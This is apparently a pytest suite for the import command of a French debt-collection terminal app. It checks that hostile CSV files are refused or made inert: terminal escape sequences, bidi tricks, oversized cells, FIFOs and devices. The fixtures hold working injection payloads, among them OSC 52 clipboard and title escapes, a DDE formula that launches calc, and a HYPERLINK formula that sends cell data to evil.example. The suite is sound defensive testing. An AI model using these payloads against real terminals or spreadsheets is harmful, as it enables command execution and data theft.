"""Hostile import files, through the real `relance` command: control characters, markup and
formulas, a huge cell, a FIFO, a device, a directory, megabytes of garbage.

Each is refused with a clear message and exit 1, nothing is written, no traceback; nothing the
command prints can drive a terminal. Every child runs under an address-space limit, so that a
regression (reading /dev/zero) fails the test instead of the machine.
"""

from __future__ import annotations

import base64
import csv
import getpass
import os
import random
import resource
import subprocess
import sys
from pathlib import Path

import pytest

from relance_tui.domain.text import unsafe_character
from relance_tui.storage.db import connect

MEMORY_LIMIT = 3 * 1024**3  # bytes of address space for each `relance` run

HEADER = ["Code client", "Raison sociale", "Adresse", "Score risque"]
REFUSED = {  # reference → (legal name, the character the report names)
    "ESC-TITLE": ("Titre\x1b]0;pirate\x07 SARL", "U+001B"),
    "OSC-52": ("\x1b]52;c;ZWNobyBwd25lZA==\x07Presse-papiers SA", "U+001B"),
    "ALT-SCREEN": ("Écran\x1b[?1049l\x1b[2J noir", "U+001B"),
    "C1-CSI": ("Huit bits \x9b2J SAS", "U+009B"),
    "BACKSPACE": ("Honnête SA" + "\x08" * 10 + "Escroc SA", "U+0008"),
    "BELL": ("Sonnerie\x07 SARL", "U+0007"),
    "BIDI": ("Facture \u202egnp.exe", "U+202E"),
    "ISOLATE": ("\u2066Isolé\u2069 SA", "U+2066"),
    "DEL": ("Effacer\x7f SA", "U+007F"),
    "NUL": ("Nul\x00Octet SA", "U+0000"),
}
ACCEPTED = {  # printable text: stored as written, made inert where it is shown or exported
    "MARKUP": "[@click=app.screenshot('x.db','dir')]Cliquez[/]",
    "LINK": '[link="https://evil.example"]Lien[/link]',
    "FORMULA": '=HYPERLINK("https://evil.example/?"&A1;"Voir")',
}


def relance(*argv: str, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))

    return subprocess.run(
        [sys.executable, "-m", "relance_tui", *argv],
        capture_output=True,
        text=True,
        env={**os.environ, "LANG": "fr_FR.UTF-8"},
        stdin=subprocess.DEVNULL,
        timeout=timeout,
        preexec_fn=limit,
        check=False,
    )


def inert_output(done: subprocess.CompletedProcess[str]) -> bool:
    printed = (done.stdout + done.stderr).replace("\n", "")
    return unsafe_character(printed) is None and "Traceback" not in printed


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=";", lineterminator="\r\n").writerows([HEADER, *rows])
    return path


def count(db: Path, table: str) -> int:
    return int(connect(db).execute(f"SELECT count(*) FROM {table}").fetchone()[0])


@pytest.fixture
def db(db_path: Path) -> Path:
    conn = connect(db_path)
    conn.execute(
        "INSERT INTO agents (login, display_name, role, created_at)"
        " VALUES (?, 'Moi', 'admin', '2026-01-01T00:00:00+00:00')",
        (getpass.getuser(),),
    )
    conn.commit()
    conn.close()
    return db_path


def hostile_rows() -> list[list[str]]:
    # Padding first: a NUL in the first 4 KiB makes the whole file "not a text file".
    rows = [[f"PAD-{n:03d}", f"Société ordinaire {n}", "1 rue de la Paix", "50"] for n in range(80)]
    rows += [[reference, name, "2 rue Basse", "50"] for reference, (name, _) in REFUSED.items()]
    rows += [[reference, name, "3 rue Haute", "50"] for reference, name in ACCEPTED.items()]
    rows.append(["FORMULA-REJECTED", "+cmd|' /C calc'!A0\x1b", "@SUM(1+1)*cmd|' /C calc'!A0", "-5"])
    return rows


def test_control_characters_are_refused_line_by_line(db: Path, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "clients.csv", hostile_rows())
    done = relance("--db", str(db), "import", "debtors", str(path))
    assert done.returncode == 1, done.stderr
    assert inert_output(done)
    lines = done.stderr.splitlines()
    first = 82  # the header is line 1, then 80 padding lines
    for offset, (name, code) in enumerate(REFUSED.values()):
        reported = [line for line in lines if line.startswith(f"  ligne {first + offset}, ")]
        assert reported, (name, done.stderr)
        assert "Raison sociale" in reported[0] and code in reported[0]
        assert "caractère de contrôle ou invisible" in reported[0]
    assert "rien n'a été importé" in done.stderr
    for reference in ACCEPTED:
        assert reference not in done.stderr
    assert count(db, "debtors") == 0


def test_skip_bad_stores_the_printable_rows_and_rejects_hold_no_formula(
    db: Path, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "clients.csv", hostile_rows())
    done = relance("--db", str(db), "import", "debtors", str(path), "--skip-bad")
    assert done.returncode == 0, done.stderr
    assert inert_output(done)
    names = {row[0] for row in connect(db).execute("SELECT legal_name FROM debtors")}
    assert set(ACCEPTED.values()) <= names  # stored as written: they are text
    assert not any(unsafe_character(name) for name in names)
    with (tmp_path / "clients.rejets.csv").open(encoding="utf-8", newline="") as handle:
        rejects = list(csv.reader(handle, delimiter=";"))
    assert len(rejects) == 1 + len(REFUSED) + 1
    formula = next(row for row in rejects if row[0] == "FORMULA-REJECTED")
    assert formula[1] == "'+cmd|' /C calc'!A0\x1b"  # the value as it was, but never run
    assert formula[2] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert formula[3] == "-5"  # a signed number stays a number (it is refused: out of bounds)
    for row in rejects:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row


@pytest.mark.parametrize("quoted", [True, False])
def test_a_one_megabyte_cell_is_a_line_error(db: Path, tmp_path: Path, quoted: bool) -> None:
    huge = "x" * 1_000_000
    rows = [["C1", "Ordinaire SA", "", "50"], ["C2", huge, "", "50"], ["C3", "Autre SA", "", "50"]]
    path = tmp_path / "clients.csv"
    if quoted:
        write_csv(path, rows)
    else:
        text = "\r\n".join(";".join(row) for row in [HEADER, *rows]) + "\r\n"
        path.write_text(text, encoding="utf-8")
    done = relance("--db", str(db), "import", "debtors", str(path))
    assert done.returncode == 1, done.stderr
    assert inert_output(done)
    assert "1 ligne en erreur" in done.stderr
    column = "la cellule de la colonne « Raison sociale »"
    assert f"ligne 3 : {column} fait 1\u202f000\u202f000 caractères" in done.stderr
    assert len(done.stderr) < 5_000  # the cell is not printed
    assert count(db, "debtors") == 0


def test_a_fifo_is_refused_without_waiting(db: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "clients.csv"
    os.mkfifo(fifo)
    done = relance("--db", str(db), "import", "debtors", str(fifo), timeout=30)
    assert done.returncode == 1
    assert "n'est pas un fichier ordinaire (tube, périphérique…)" in done.stderr
    assert inert_output(done)


def test_a_device_and_a_directory_are_refused(db: Path, tmp_path: Path) -> None:
    done = relance("--db", str(db), "import", "debtors", "/dev/zero", timeout=30)
    assert done.returncode == 1
    assert "/dev/zero n'est pas un fichier ordinaire" in done.stderr
    assert inert_output(done)
    done = relance("--db", str(db), "import", "debtors", str(tmp_path), timeout=30)
    assert done.returncode == 1
    assert "est un dossier, pas un fichier CSV" in done.stderr
    assert inert_output(done)


def test_a_file_name_cannot_drive_the_terminal(db: Path, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "\x1b]0;pirate\x07clients\x1b[2J.csv", [["C1", "", "", "50"]])
    done = relance("--db", str(db), "import", "debtors", str(path))
    assert done.returncode == 1
    assert "valeur obligatoire manquante" in done.stderr
    assert inert_output(done)
    assert "\ufffd]0;pirate\ufffdclients\ufffd[2J.csv" in done.stderr


# --- garbage: refused at once, in bounded memory ----------------------------------------------

GARBAGE_BYTES = 20_000_000


def garbage_lines(size: int, seed: int = 12) -> bytes:
    """Random printable lines (quotes and separators included), about 100 bytes each."""
    noise = base64.b85encode(random.Random(seed).randbytes(size * 4 // 5)).replace(b"~", b'"')
    return b"\n".join(noise[i : i + 100] for i in range(0, len(noise), 100)) + b"\n"


def peak_rss_of(*argv: str) -> tuple[int, str, int]:
    """(exit code, stderr, peak resident memory in bytes) of one `relance` run, measured by a
    fresh parent: RUSAGE_CHILDREN keeps the largest child a process ever waited for."""
    probe = (
        "import resource, subprocess, sys\n"
        f"size = {MEMORY_LIMIT}\n"
        "limit = lambda: resource.setrlimit(resource.RLIMIT_AS, (size, size))\n"
        "done = subprocess.run([sys.executable, '-m', 'relance_tui', *sys.argv[1:]],"
        " capture_output=True, text=True, preexec_fn=limit, timeout=300)\n"
        "sys.stderr.write(done.stderr)\n"
        "print(done.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", probe, *argv],
        capture_output=True,
        text=True,
        env={**os.environ, "LANG": "fr_FR.UTF-8"},
        timeout=400,
        check=True,
    )
    code, kilobytes = done.stdout.split()
    return int(code), done.stderr, int(kilobytes) * 1024


@pytest.mark.slow
@pytest.mark.parametrize("header", [False, True], ids=["random", "header-then-random"])
def test_garbage_is_refused_in_bounded_memory(db: Path, tmp_path: Path, header: bool) -> None:
    small = tmp_path / "small.csv"
    small.write_text("N° facture;Code client\r\nF1;C1\r\n", encoding="utf-8")
    _, _, baseline = peak_rss_of("--db", str(db), "import", "invoices", str(small))
    path = tmp_path / "garbage.csv"
    start = (
        b"N\xc2\xb0 facture;Code client;Date facture;Date d'\xc3\xa9ch\xc3\xa9ance;Montant TTC\n"
    )
    path.write_bytes((start if header else b"") + garbage_lines(GARBAGE_BYTES))
    code, err, peak = peak_rss_of("--db", str(db), "import", "invoices", str(path))
    assert code == 1, err
    assert "Traceback" not in err
    if header:  # every line is bad: the first thousand are reported, the rest never read
        assert "Lecture arrêtée à la ligne 1001" in err
    else:  # the header line is not one of an invoices file
        assert "colonne(s) obligatoire(s) absente(s)" in err
    assert peak - baseline < GARBAGE_BYTES // 2  # refused from the file's first MiB
    assert count(db, "invoices") == 0
